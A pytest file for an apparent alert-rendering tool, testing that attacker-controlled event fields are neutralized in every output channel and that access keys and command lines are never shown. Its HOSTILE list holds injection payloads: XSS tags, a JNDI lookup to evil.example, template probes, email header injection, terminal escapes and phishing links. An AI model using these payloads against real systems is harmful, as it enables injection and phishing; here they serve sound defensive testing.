"""What an attacker could write into an event shows what it is in every channel, and does nothing.

Text is planted into every field of every sample event, one at a time: all of it at once behind what the field holds,
and one piece of it, in turn, instead of what the field holds.
"""

from __future__ import annotations

import copy
import json
from itertools import chain, cycle
from typing import TYPE_CHECKING, Any

import pytest
from support.messages import activity_flaws, character_flaws, flaws, rows, size_flaws
from support.samples import EVENTS, alerts_in, cases, elsewhere, tell

from hinomi.config import LOCALES
from hinomi.envelope import open_envelope
from hinomi.normalize import normalize
from hinomi.render import MACHINE

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from hinomi.model import Message

HOSTILE = (
    "<!channel> <!here> <!subteam^S1> <@U0>",
    "<https://evil.example/login|Open in AWS console>",
    "[Open in AWS console](https://evil.example) ![x](https://evil.example/x.png)",
    "[x]: https://evil.example",
    "https://evil.example",
    "www.evil.example evil.com //evil.example/x",
    "mailto:a@evil.example a@evil.example javascript:alert(1)",
    "`code` ```block``` ~~gone~~ ~gone~",
    "*bold* **bold** _italic_ __bold__",
    "# title",
    "> quote",
    "| a | b |",
    "    indented\n\tindented",
    "@everyone @here @channel @all <at>everyone</at>",
    "\u202egnp.exe\u2066\u200b\u00ad\ufeff",
    "\x1b[31mred \x1b]8;;https://evil.example\x07here\x1b]8;;\x07 \x9b2J\x00\x08",
    "x\r\nBcc: victim@evil.example\r\n\r\nx",
    "x\u2028Bcc: victim@evil.example\x85x",
    "{{7777*7777}} {% raw %} #{7777*7777}",
    "${jndi:ldap://evil.example/x}",
    "%s%n%(account)s {0} {alert} {resource.id} {what!r}",
    "&lt;!channel&gt; &#60;https://evil.example&#62;",
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <!-- -->",
    '"}],"blocks":[{"type":"section"}],"x":[{"y":"\\',
    "ht\u200btps://evil\u200b.example",
    "\ud800",
)
ALL = "\n".join(HOSTILE)
COMMAND = "--password=correct-horse-battery"
KEY = "AKIAIOSFODNN7EXAMPLE"

own_files = pytest.mark.parametrize("file", cases(EVENTS))


def places(value: Any) -> Iterator[tuple[Any, Any]]:
    """List (container, key) of every text within a JSON value."""
    for key, one in value.items() if isinstance(value, dict) else enumerate(value):
        if isinstance(one, str):
            yield value, key
        elif isinstance(one, dict | list):
            yield from places(one)


def variants(event: dict[str, Any], planted: list[str], *, instead: bool) -> Iterator[dict[str, Any]]:
    """Yield the event once for each text in it, or for each line of one, with the next of `planted` in that place.

    The event is changed in place: a variant lasts until the next is asked for.
    """
    values = cycle(planted)
    for container, key in places(event):
        original = container[key]
        lines = original.split("\n")
        for number, line in enumerate(lines):
            value = next(values)
            lines[number] = value if instead else f"{line} {value}"
            container[key] = "\n".join(lines)
            yield event
            lines[number] = line
        container[key] = original


def messages(event: dict[str, Any], locale: str) -> Iterator[Message]:
    """Render what an event leads to, in every channel."""
    for opened in open_envelope(copy.deepcopy(event)):
        for alert in normalize(opened):
            yield from tell(alert, locales=[locale])


def for_machines(event: dict[str, Any]) -> str:
    """Write what programs are told of an event."""
    alerts = (alert for opened in open_envelope(event) for alert in normalize(opened))
    return "\n".join(message.body for alert in alerts for message in tell(alert, channels=[MACHINE], locales=[""]))


def harm(message: Message) -> list[str]:
    """Say what in a message does something, or pretends to be a part of it."""
    told = rows(message)
    evaluated = [f"evaluated: {row!r}" for row in told if "60481729" in row]
    headers = [f"a header: {row!r}" for row in told if row.startswith("Bcc:")]
    return [*activity_flaws(message), *character_flaws(message), *size_flaws(message), *evaluated, *headers]


@pytest.mark.parametrize("file", [case for case in cases(EVENTS, *elsewhere()) if "hostile" in str(case.id)])
def test_a_hostile_sample_is_neutralized(file: Path) -> None:
    found = [flaw for alert in alerts_in(file) for message in tell(alert) for flaw in (*flaws(message), *harm(message))]
    assert found == []


@own_files
@pytest.mark.parametrize("planted", [[ALL], list(HOSTILE)], ids=["behind", "instead"])
def test_nothing_planted_is_active(file: Path, planted: list[str]) -> None:
    event = json.loads(file.read_text("utf-8"))
    locale = cycle(LOCALES)
    found = {
        flaw
        for variant in variants(event, planted, instead=len(planted) > 1)
        for message in messages(variant, next(locale))
        for flaw in harm(message)
    }
    assert found == set()


@own_files
def test_all_fields_at_once_are_carried_within_every_limit(file: Path) -> None:
    event = json.loads(file.read_text("utf-8"))
    for container, key in list(places(event)):
        if key not in {"source", "detail-type", "type", "Type", "eventName", "eventSource", "TopicArn", "Message"}:
            container[key] = f"{container[key]} {ALL}"
    found = [flaw for locale in LOCALES for message in messages(event, locale) for flaw in (*flaws(message), *harm(message))]
    assert [flaw for flaw in found if not flaw.startswith("an absent value")] == []


def test_a_hostile_key_is_as_harmless_as_a_value() -> None:
    event = {"detail-type": "x", "source": "example", "detail": {value: [{value: 1}] for value in HOSTILE}}
    assert [flaw for locale in LOCALES for message in messages(event, locale) for flaw in harm(message)] == []


@own_files
def test_an_access_key_is_never_told_in_full(file: Path) -> None:
    event = json.loads(file.read_text("utf-8"))
    locale = cycle(LOCALES)
    leaks = {
        f"{message.channel}: {row!r}"
        for variant in variants(event, [KEY], instead=False)
        for message in messages(variant, next(locale))
        for row in rows(message)
        if KEY in row
    }
    assert leaks == set()


@pytest.mark.parametrize("key", ["commandLineExample", "commandLine", "cmd_line", "Password", "secretString", "sessionToken"])
@own_files
def test_a_command_line_or_secret_is_never_told(file: Path, key: str) -> None:
    event = json.loads(file.read_text("utf-8"))
    for part in list(chain([event], mappings(event))):
        part[key] = COMMAND
    assert COMMAND not in for_machines(event)
    assert [row for locale in LOCALES for message in messages(event, locale) for row in rows(message) if COMMAND in row] == []


def mappings(value: Any) -> Iterator[dict[str, Any]]:
    """List the JSON objects within a JSON value."""
    for one in value.values() if isinstance(value, dict) else value:
        if isinstance(one, dict):
            yield one
        if isinstance(one, dict | list):
            yield from mappings(one)
